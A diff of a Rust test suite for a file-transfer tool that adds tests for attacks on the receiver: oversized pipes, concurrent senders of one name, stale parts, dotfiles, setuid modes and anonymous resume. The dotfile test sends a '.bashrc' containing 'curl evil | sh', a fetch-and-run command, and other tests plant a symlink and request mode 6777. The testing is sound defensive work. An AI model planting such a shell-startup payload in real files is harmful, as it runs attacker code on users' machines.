@@ -1,6 +1,8 @@
 //! File transfer end to end: `serve recv` and `send` over loopback, hashes
 //! checked independently with the blake3 crate, resume, hostile names and
-//! symlinks, liars, tokens, limits and concurrency.
+//! symlinks, liars, tokens, limits and concurrency, and the attacks of
+//! issue 11 (limits on unknown sizes, two senders of one name, stale parts,
+//! long names, dotfiles, modes, anonymous resume).
 
 mod util;
 
@@ -50,6 +52,11 @@ impl Receiver {
         names.sort();
         names
     }
+}
+
+/// The receiver's part file for `name` (PROTOCOL.md): hidden, fixed length.
+fn part_of(name: &str) -> String {
+    format!(".sk-{}.part", &b3(name.as_bytes())[..32])
 }
 
 fn b3(bytes: &[u8]) -> String {
@@ -139,39 +146,63 @@ fn stdin_with_a_name_and_a_json_summary() {
 }
 
 fn python_sender(receiver: &Receiver, args: &[&str], stdin: bool) -> Proc {
+    python_sender_with_token(receiver, args, stdin, None)
+}
+
+fn python_sender_with_token(
+    receiver: &Receiver,
+    args: &[&str],
+    stdin: bool,
+    token: Option<&str>,
+) -> Proc {
     let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/peers/transfer_client.py");
     let mut cmd = Command::new("python3");
     cmd.arg(script)
         .arg(util::host_port(receiver.server.addr()))
         .args(args);
+    if let Some(token) = token {
+        cmd.env("SK_TOKEN", token);
+    }
     Proc::spawn("python sender", cmd, stdin)
+}
+
+/// A token file in a fresh directory (kept alive by the returned guard).
+fn token_file(secret: &str) -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("token");
+    std::fs::write(&path, secret).unwrap();
+    (dir, path)
 }
 
 #[test]
 fn an_interrupted_transfer_resumes_and_a_tampered_part_restarts() {
-    let receiver = Receiver::start(&[]);
+    // Only authenticated senders resume.
+    let (_secrets, token) = token_file("resume-secret");
+    let token = token.to_str().unwrap();
+    let receiver = Receiver::start(&["--token-file", token]);
     let source = tempfile::tempdir().unwrap();
     let bytes = util::random_bytes(3 << 20, 11);
     let path = source.path().join("movie.bin");
     std::fs::write(&path, &bytes).unwrap();
     let half = (3 << 20) / 2;
     let path_text = path.to_str().unwrap().to_owned();
-    let partial = python_sender(
+    let partial = python_sender_with_token(
         &receiver,
         &["partial", &path_text, "movie.bin", &half.to_string()],
         true,
+        Some("resume-secret"),
     );
     partial
         .stdout
         .wait_for("the partial send", |l| l.starts_with("SENT"));
-    drop(partial); // killed: the receiver keeps movie.bin.part
-    let part = receiver.inbox().join("movie.bin.part");
+    drop(partial); // killed: the receiver keeps the part file
+    let part = receiver.inbox().join(part_of("movie.bin"));
     util::wait_until("the partial file to hold the bytes sent", || {
         std::fs::metadata(&part)
             .map(|m| m.len() as usize == half)
             .unwrap_or(false)
     });
-    let out = receiver.send(&[&path], &["--json"]);
+    let out = receiver.send(&[&path], &["--json", "--token-file", token]);
     assert!(out.status.success(), "{}", stderr_of(&out));
     assert!(
         stdout_of(&out).contains(&format!("\"resumed_from\":{half}")),
@@ -184,7 +215,7 @@ fn an_interrupted_transfer_resumes_and_a_tampered_part_restarts() {
     // A partial copy that does not match our prefix is thrown away.
     std::fs::remove_file(receiver.inbox().join("movie.bin")).unwrap();
     std::fs::write(&part, vec![0u8; half]).unwrap();
-    let out = receiver.send(&[&path], &["--json"]);
+    let out = receiver.send(&[&path], &["--json", "--token-file", token]);
     assert!(
         stdout_of(&out).contains("\"resumed_from\":0"),
         "{}",
@@ -242,7 +273,7 @@ fn symlinks_planted_in_the_directory_are_never_followed() {
     let receiver = Receiver::start(&["--overwrite"]);
     let outside = receiver.dir.path().join("outside.txt");
     std::fs::write(&outside, "precious").unwrap();
-    std::os::unix::fs::symlink(&outside, receiver.inbox().join("evil.part")).unwrap();
+    std::os::unix::fs::symlink(&outside, receiver.inbox().join(part_of("evil"))).unwrap();
     let out = run(
         socketkit(["send", receiver.server.addr(), "-", "--name", "evil"]),
         b"overwritten?",
@@ -388,20 +419,20 @@ fn twenty_senders_at_once() {
     }
 }
 
-/// A 1 MiB tmpfs of our own, unmounted when dropped (even if the test
+/// A small tmpfs of our own, unmounted when dropped (even if the test
 /// fails).
 struct TinyFilesystem(PathBuf);
 
 impl TinyFilesystem {
     /// Mounts it at `at` when this test may (root); `None` and a note
     /// otherwise.
-    fn mount(at: &Path) -> Option<TinyFilesystem> {
+    fn mount(at: &Path, size: &str) -> Option<TinyFilesystem> {
         let mounted = Command::new("mount")
             .args([
                 "-t",
                 "tmpfs",
                 "-o",
-                "size=1m",
+                &format!("size={size}"),
                 "socketkit-test",
                 at.to_str().unwrap(),
             ])
@@ -420,14 +451,175 @@ impl Drop for TinyFilesystem {
     }
 }
 
+/// A receiver storing into a tmpfs of `size`; fields drop in order, the
+/// server before the unmount.
+struct TinyReceiver {
+    server: Server,
+    inbox: PathBuf,
+    _mounted: TinyFilesystem,
+    _root: tempfile::TempDir,
+}
+
+impl TinyReceiver {
+    /// `None` where no tmpfs can be mounted.
+    fn start(size: &str) -> Option<TinyReceiver> {
+        let root = tempfile::tempdir().unwrap();
+        let inbox = root.path().join("inbox");
+        std::fs::create_dir(&inbox).unwrap();
+        let mounted = TinyFilesystem::mount(&inbox, size)?;
+        let server = Server::start(
+            &[
+                "serve",
+                "recv",
+                "127.0.0.1:0",
+                "--dir",
+                inbox.to_str().unwrap(),
+            ],
+            1,
+        );
+        Some(TinyReceiver {
+            server,
+            inbox,
+            _mounted: mounted,
+            _root: root,
+        })
+    }
+
+    /// Sends `bytes` from a pipe (size unknown) as `name`, expecting a
+    /// refusal: the one error line.
+    fn refused_pipe(&self, name: &str, bytes: &[u8]) -> String {
+        let out = run(
+            socketkit(["send", self.server.addr(), "-", "--name", name]),
+            bytes,
+        );
+        util::assert_one_error_line(&out, 1)
+    }
+}
+
 #[test]
 fn a_full_disk_is_reported_to_both_sides_and_nothing_is_renamed() {
-    let root = tempfile::tempdir().unwrap();
-    let inbox = root.path().join("inbox");
-    std::fs::create_dir(&inbox).unwrap();
-    let Some(_mounted) = TinyFilesystem::mount(&inbox) else {
+    let Some(tiny) = TinyReceiver::start("1m") else {
         return;
     };
+    // From a pipe the size is unknown, so only the write itself can fail.
+    let line = tiny.refused_pipe("too-big.bin", &util::random_bytes(4 << 20, 5));
+    assert!(line.contains("not enough space"), "{line}");
+    assert!(!tiny.inbox.join("too-big.bin").exists());
+}
+
+// ---------------------------------------------------------------------------
+// Issue 11: each attack performed.
+
+#[test]
+fn a_pipe_of_unknown_size_is_held_to_max_size_as_it_arrives() {
+    let receiver = Receiver::start(&["--max-size", "1000"]);
+    // What `head -c 100000 /dev/zero | socketkit send ADDR - --name big.bin`
+    // does: the offer says "size": null.
+    let out = run(
+        socketkit(["send", receiver.server.addr(), "-", "--name", "big.bin"]),
+        &vec![0u8; 100_000],
+    );
+    let line = util::assert_one_error_line(&out, 1);
+    assert!(line.contains("too large"), "{line}");
+    // Far past the limit: the sender hears of it mid-file and stops.
+    let out = run(
+        socketkit(["send", receiver.server.addr(), "-", "--name", "huge.bin"]),
+        &util::random_bytes(40 << 20, 9),
+    );
+    let line = util::assert_one_error_line(&out, 1);
+    assert!(line.contains("too large"), "{line}");
+    // A sender that only reads after END (a peer from PROTOCOL.md) still
+    // gets a clean refusal: the receiver discards up to END.
+    let source = tempfile::tempdir().unwrap();
+    let path = source.path().join("data");
+    std::fs::write(&path, vec![7u8; 200_000]).unwrap();
+    let mut offered = python_sender(
+        &receiver,
+        &[
+            "send",
+            path.to_str().unwrap(),
+            "x.bin",
+            &"0".repeat(64),
+            "644",
+        ],
+        false,
+    );
+    offered.stdout.wait_for("a too_large refusal", |l| {
+        l.starts_with("ERROR") && l.contains("too_large")
+    });
+    offered.wait_exit();
+    util::wait_until("nothing stored and no part left", || {
+        receiver.inbox_names().is_empty()
+    });
+}
+
+#[test]
+fn a_second_sender_of_the_same_name_is_busy_and_the_stored_file_is_the_confirmed_one() {
+    let receiver = Receiver::start(&[]);
+    let source = tempfile::tempdir().unwrap();
+    let first = util::random_bytes(2 << 20, 21);
+    let second = util::random_bytes(2 << 20, 22);
+    std::fs::create_dir(source.path().join("other")).unwrap();
+    let first_path = source.path().join("a");
+    let second_path = source.path().join("other/shared.bin");
+    std::fs::write(&first_path, &first).unwrap();
+    std::fs::write(&second_path, &second).unwrap();
+    let half = 1 << 20;
+    let mut holder = python_sender(
+        &receiver,
+        &[
+            "hold",
+            first_path.to_str().unwrap(),
+            "shared.bin",
+            &half.to_string(),
+            &b3(&first),
+        ],
+        true,
+    );
+    holder
+        .stdout
+        .wait_for("the first half sent", |l| l.starts_with("HELD"));
+    util::wait_until("the receiver to hold the first half", || {
+        std::fs::read_dir(receiver.inbox())
+            .unwrap()
+            .any(|e| e.unwrap().metadata().unwrap().len() == half as u64)
+    });
+    let out = receiver.send(&[&second_path], &[]);
+    let line = util::assert_one_error_line(&out, 1);
+    assert!(line.contains("busy"), "{line}");
+    holder.write_stdin(b"go\n");
+    holder.stdout.wait_for("the first sender's DONE", |l| {
+        l.starts_with("DONE") && l.contains(&b3(&first))
+    });
+    let stored = std::fs::read(receiver.inbox().join("shared.bin")).unwrap();
+    assert!(
+        stored == first,
+        "the stored file is not what DONE confirmed"
+    );
+    assert_eq!(receiver.inbox_names(), ["shared.bin"]);
+}
+
+/// Sets a file's modification time `age` into the past.
+fn age(path: &Path, age: std::time::Duration) {
+    let file = std::fs::File::options().write(true).open(path).unwrap();
+    file.set_modified(std::time::SystemTime::now() - age)
+        .unwrap();
+}
+
+#[test]
+fn stale_parts_expire_at_start_and_later() {
+    let dir = tempfile::tempdir().unwrap();
+    let inbox = dir.path().join("inbox");
+    std::fs::create_dir(&inbox).unwrap();
+    let stale = inbox.join(part_of("old.iso"));
+    let fresh = inbox.join(part_of("new.iso"));
+    let users = inbox.join("kept.txt");
+    for path in [&stale, &fresh, &users] {
+        std::fs::write(path, b"bytes").unwrap();
+    }
+    let day = std::time::Duration::from_secs(25 * 60 * 60);
+    age(&stale, day);
+    age(&users, day);
     let server = Server::start(
         &[
             "serve",
@@ -438,13 +630,175 @@ fn a_full_disk_is_reported_to_both_sides_and_nothing_is_renamed() {
         ],
         1,
     );
-    // From a pipe the size is unknown, so only the write itself can fail.
+    assert!(
+        !stale.exists(),
+        "a part older than a day survived the start"
+    );
+    assert!(fresh.exists(), "a fresh part was removed");
+    assert!(users.exists(), "a file that is not a part was removed");
+    drop(server);
+
+    // With a short TTL, parts that go stale while it runs go too (the sweep
+    // runs as offers arrive).
+    let server = Server::start(
+        &[
+            "serve",
+            "recv",
+            "127.0.0.1:0",
+            "--dir",
+            inbox.to_str().unwrap(),
+            "--part-ttl",
+            "1s",
+        ],
+        1,
+    );
+    // Created after the start-up sweep, so only a later sweep removes it.
+    let late = inbox.join(part_of("late.iso"));
+    std::fs::write(&late, b"bytes").unwrap();
+    age(&late, std::time::Duration::from_secs(60));
+    let mut n = 0;
+    util::wait_until("the stale part to be swept", || {
+        n += 1;
+        let name = format!("poke-{n}");
+        let out = run(
+            socketkit(["send", server.addr(), "-", "--name", &name]),
+            b"x",
+        );
+        assert!(out.status.success(), "{}", stderr_of(&out));
+        !late.exists()
+    });
+    assert!(users.exists());
+}
+
+#[test]
+fn a_255_byte_name_is_stored() {
+    let receiver = Receiver::start(&[]);
+    let name = "n".repeat(255);
     let out = run(
-        socketkit(["send", server.addr(), "-", "--name", "too-big.bin"]),
-        &util::random_bytes(4 << 20, 5),
+        socketkit(["send", receiver.server.addr(), "-", "--name", &name]),
+        b"long",
+    );
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    assert_eq!(
+        std::fs::read(receiver.inbox().join(&name)).unwrap(),
+        b"long"
+    );
+    assert_eq!(receiver.inbox_names(), [name]);
+}
+
+#[test]
+fn dotfiles_are_refused_unless_allowed() {
+    let receiver = Receiver::start(&[]);
+    let out = run(
+        socketkit(["send", receiver.server.addr(), "-", "--name", ".bashrc"]),
+        b"curl evil | sh\n",
     );
     let line = util::assert_one_error_line(&out, 1);
-    assert!(line.contains("not enough space"), "{line}");
-    assert!(!inbox.join("too-big.bin").exists());
-    drop(server);
+    assert!(line.contains("--allow-dotfiles"), "{line}");
+    assert!(receiver.inbox_names().is_empty());
+    let permissive = Receiver::start(&["--allow-dotfiles"]);
+    let out = run(
+        socketkit(["send", permissive.server.addr(), "-", "--name", ".profile"]),
+        b"ok\n",
+    );
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    assert_eq!(permissive.inbox_names(), [".profile"]);
+}
+
+#[test]
+fn a_sender_cannot_set_modes_beyond_the_receivers_umask() {
+    use std::os::unix::fs::PermissionsExt;
+    use std::os::unix::process::CommandExt;
+    let dir = tempfile::tempdir().unwrap();
+    let inbox = dir.path().join("inbox");
+    std::fs::create_dir(&inbox).unwrap();
+    let mut cmd = socketkit([
+        "serve",
+        "recv",
+        "127.0.0.1:0",
+        "--dir",
+        inbox.to_str().unwrap(),
+    ]);
+    // SAFETY: umask is async-signal-safe and touches nothing else.
+    unsafe {
+        cmd.pre_exec(|| {
+            libc::umask(0o027);
+            Ok(())
+        });
+    }
+    let receiver = Receiver {
+        server: Server::start_command(cmd, 1),
+        dir,
+    };
+    let source = tempfile::tempdir().unwrap();
+    let path = source.path().join("tool");
+    std::fs::write(&path, b"#!/bin/sh\n").unwrap();
+    let mut sender = python_sender(
+        &receiver,
+        &[
+            "send",
+            path.to_str().unwrap(),
+            "tool",
+            &b3(b"#!/bin/sh\n"),
+            "6777",
+        ],
+        false,
+    );
+    sender.stdout.wait_for("DONE", |l| l.starts_with("DONE"));
+    sender.wait_exit();
+    let mode = std::fs::metadata(receiver.inbox().join("tool"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o7777, 0o750, "mode {:o}", mode & 0o7777);
+}
+
+#[test]
+fn an_anonymous_sender_cannot_make_the_receiver_resume() {
+    let receiver = Receiver::start(&[]);
+    let source = tempfile::tempdir().unwrap();
+    let bytes = util::random_bytes(3 << 20, 31);
+    let path = source.path().join("movie.bin");
+    std::fs::write(&path, &bytes).unwrap();
+    let half = (3 << 20) / 2;
+    let partial = python_sender(
+        &receiver,
+        &[
+            "partial",
+            path.to_str().unwrap(),
+            "movie.bin",
+            &half.to_string(),
+        ],
+        true,
+    );
+    partial
+        .stdout
+        .wait_for("the partial send", |l| l.starts_with("SENT"));
+    drop(partial);
+    let size = bytes.len().to_string();
+    let offer = python_sender(&receiver, &["offer", "movie.bin", &size], false);
+    let answer = offer
+        .stdout
+        .wait_for("an answer", |l| l.starts_with("ACCEPT"));
+    assert!(answer.contains("\"offset\":0"), "{answer}");
+    // Not even a part planted in the directory is hashed for it.
+    std::fs::write(receiver.inbox().join(part_of("movie.bin")), &bytes[..half]).unwrap();
+    let offer = python_sender(&receiver, &["offer", "movie.bin", &size], false);
+    let answer = offer
+        .stdout
+        .wait_for("an answer", |l| l.starts_with("ACCEPT"));
+    assert!(answer.contains("\"offset\":0"), "{answer}");
+}
+
+#[test]
+fn free_space_is_rechecked_as_data_of_unknown_size_arrives() {
+    let Some(tiny) = TinyReceiver::start("32m") else {
+        return;
+    };
+    let line = tiny.refused_pipe("stream.bin", &util::random_bytes(64 << 20, 41));
+    // Stopped while room was left, not when the disk was full; and the
+    // part is gone, giving the space back.
+    assert!(line.contains("nearly full"), "{line}");
+    let left: Vec<_> = std::fs::read_dir(&tiny.inbox).unwrap().collect();
+    assert!(left.is_empty(), "{left:?}");
 }
